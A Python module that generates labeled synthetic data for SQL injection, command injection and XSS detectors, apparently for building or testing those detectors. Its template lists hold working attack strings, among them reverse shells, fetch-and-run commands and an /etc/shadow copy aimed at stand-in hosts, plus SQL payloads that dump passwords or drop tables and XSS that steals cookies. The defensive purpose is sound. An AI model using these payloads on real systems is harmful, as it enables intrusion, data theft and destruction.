"""Synthetic payload generators shared by the fixture and desk-model scripts."""

import random

BENIGN_WORDS = ["alice", "bob", "order", "invoice", "shipping", "please", "list", "my", "orders",
                "hello", "world", "update", "profile", "select", "best", "option", "from", "the",
                "menu", "and", "or", "not", "table", "drop", "by", "friday", "sleep", "well",
                "script", "image", "link", "java", "coffee", "cat", "food", "id", "number", "café",
                "naïve", "résumé", "东京", "привет", "✓", "50%", "a&b", "(draft)", "it's", "\"quoted\""]
BENIGN_TEMPLATES = [
    "{w} {w} {w}",
    "{name}@example.com",
    "{w}-{n}",
    "{n}",
    "{W} {w}, {w} {w}.",
    "https://www.{w}.com/{w}/{n}",
    "{w}_{w}_{n}",
    "Order #{n} for {name}",
    "{w} ({w}) {w}?",
    "What is the {w} of {w}?",
    "{name} O'{W}",
    "2024-0{d}-1{d}T10:00:00Z",
    "+1-555-01{d}{d}",
    "{w}/{w}/{w}.png",
    "Meet at {d}pm; bring {w}",
    "{w} | {w}",
]
NAMES = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]

SQLI_TEMPLATES = [
    "' OR '1'='1' --",
    "' OR 1=1--",
    "admin'--",
    "admin' #",
    "1' UNION SELECT {col} FROM {tbl}--",
    "1 UNION ALL SELECT NULL,{col},NULL FROM {tbl}",
    "'; DROP TABLE {tbl};--",
    "1; DELETE FROM {tbl} WHERE 1=1",
    "' AND SLEEP({n})--",
    "1 AND (SELECT * FROM (SELECT(SLEEP({n})))a)",
    "'; WAITFOR DELAY '0:0:{n}'--",
    "1' AND BENCHMARK({n}000000,MD5(1))#",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "'; EXEC xp_cmdshell('{cmd}')--",
    "1 OR 1=1 ORDER BY {n}",
    "%27%20OR%201%3D1--",
    "0x27 OR 0x27=0x27",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "1' AND extractvalue(1,concat(0x7e,database()))--",
    "' OR NOT 1=2 XOR 1=1 /* c */",
    "SELECT * FROM {tbl} WHERE id IN (SELECT id FROM {tbl2})",
    "1; INSERT INTO {tbl} VALUES ('{col}')",
    "'; UPDATE {tbl} SET {col}='x' WHERE '1'='1",
    "1' AND pg_sleep({n})--",
    "' UNION SELECT load_file('/etc/passwd')--",
    "1 INTO OUTFILE '/tmp/{col}'",
    "'||(SELECT {col} FROM {tbl})||'",
    "\" OR \"\"=\"",
    "1) OR (1=1",
    "CAST(CHAR(39) AS varchar)",
]
OSI_TEMPLATES = [
    "; {cmd}",
    "| {cmd}",
    "&& {cmd}",
    "|| {cmd}",
    "`{cmd}`",
    "$({cmd})",
    "${{IFS}}{cmd}",
    "127.0.0.1; {cmd}",
    "{w}.txt; rm -rf /",
    "; wget http://{host}/x.sh -O /tmp/x; sh /tmp/x",
    "| curl http://{host}/s | bash",
    "; nc -e /bin/sh {host} {port}",
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "; cat /etc/passwd",
    "&& sudo chmod 777 /etc/sudoers",
    "; python -c 'import os;os.system(\"{cmd}\")'",
    "; perl -e 'exec \"/bin/sh\"'",
    "| mkfifo /tmp/f; cat /tmp/f | sh",
    "; uname -a; id; whoami",
    "&& scp /etc/shadow {host}:/tmp",
    "please run {cmd} for me then {cmd}",
    "file.txt && chown root {w}",
    "; echo $PATH > /tmp/{w}",
    "x; env | grep KEY",
]
OS_CMDS = ["ls", "ls -la", "whoami", "id", "pwd", "uname -a", "cat /etc/passwd", "ps aux", "netstat -an",
           "ifconfig", "hostname", "env", "sleep 5", "ping -c 3 {ip}"]
XSS_TEMPLATES = [
    "<script>alert({n})</script>",
    "<script src=http://{host}/x.js></script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert(document.cookie)>",
    "<iframe src=\"javascript:alert({n})\"></iframe>",
    "<body onload=eval(atob('{b64}'))>",
    "javascript:alert(document.domain)",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "\"><script>document.write('{w}')</script>",
    "'><img src=1 onerror=prompt({n})>",
    "<input autofocus onfocus=confirm({n})>",
    "< script >setTimeout('alert({n})',1)</ script >",
    "<a href=\"javascript:void(0)\" onclick=\"window.location='http://{host}'\">{w}</a>",
    "<object data=\"http://{host}/x.swf\"></object>",
    "<details open ontoggle=alert({n})>",
    "<math><mtext><script>alert({n})</script>",
    "<style>@import 'http://{host}/x.css';</style>",
    "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e",
    "<embed src=http://{host}/e.js>",
    "<marquee onstart=alert({n})>",
    "String.fromCharCode(88,83,83)",
    "<div innerHTML=\"<img src=x>\">",
    "<video><source onerror=alert({n})>",
]
HOSTS = ["evil.example", "attacker.test", "10.0.0.7", "198.51.100.23", "x.example.org"]
IPS = ["10.0.0.7", "192.168.1.5", "203.0.113.9"]
TABLES = ["users", "accounts", "admin", "orders", "secrets"]
COLS = ["password", "username", "email", "token", "ssn"]


def _fill(rng, tpl):
    cmd = rng.choice(OS_CMDS).replace("{ip}", rng.choice(IPS))
    words = [w for w in BENIGN_WORDS if w.isascii() and w.isalpha()]
    return (tpl.replace("{cmd}", cmd)
            .replace("{w}", rng.choice(words))
            .replace("{host}", rng.choice(HOSTS))
            .replace("{ip}", rng.choice(IPS))
            .replace("{port}", str(rng.choice([4444, 9001, 1337, 8080])))
            .replace("{tbl2}", rng.choice(TABLES))
            .replace("{tbl}", rng.choice(TABLES))
            .replace("{col}", rng.choice(COLS))
            .replace("{b64}", rng.choice(["YWxlcnQoMSk=", "ZG9jdW1lbnQuY29va2ll"]))
            .replace("{n}", str(rng.randint(1, 20))))


def _mutate(rng, s):
    r = rng.random()
    if r < 0.15:
        return s.upper()
    if r < 0.3:
        return s.replace(" ", "  ")
    if r < 0.4:
        return rng.choice(["x", "1", "name=", "q "]) + s
    if r < 0.5:
        return s + rng.choice(["", " ", "--", ";", " #"])
    return s


def benign(rng):
    tpl = rng.choice(BENIGN_TEMPLATES)
    out = tpl
    while "{w}" in out:
        out = out.replace("{w}", rng.choice(BENIGN_WORDS), 1)
    while "{W}" in out:
        out = out.replace("{W}", rng.choice(BENIGN_WORDS).capitalize(), 1)
    while "{d}" in out:
        out = out.replace("{d}", str(rng.randint(0, 9)), 1)
    return out.replace("{name}", rng.choice(NAMES)).replace("{n}", str(rng.randint(1, 99999)))


def attack(rng, kind):
    tpls = {"sqli": SQLI_TEMPLATES, "osi": OSI_TEMPLATES, "xss": XSS_TEMPLATES}[kind]
    return _mutate(rng, _fill(rng, rng.choice(tpls)))


def labeled(kind, n, seed):
    """Returns n (payload, label) rows for detector `kind`: half attacks of that
    kind, a tenth other-category attacks labeled benign, the rest benign text."""
    rng = random.Random(seed)
    others = [k for k in ("sqli", "osi", "xss") if k != kind]
    rows, seen = [], set()
    while len(rows) < n:
        r = rng.random()
        if r < 0.5:
            row = (attack(rng, kind), 1)
        elif r < 0.6:
            row = (attack(rng, rng.choice(others)), 0)
        else:
            row = (benign(rng), 0)
        if row[0] and row not in seen:
            seen.add(row)
            rows.append(row)
    return rows
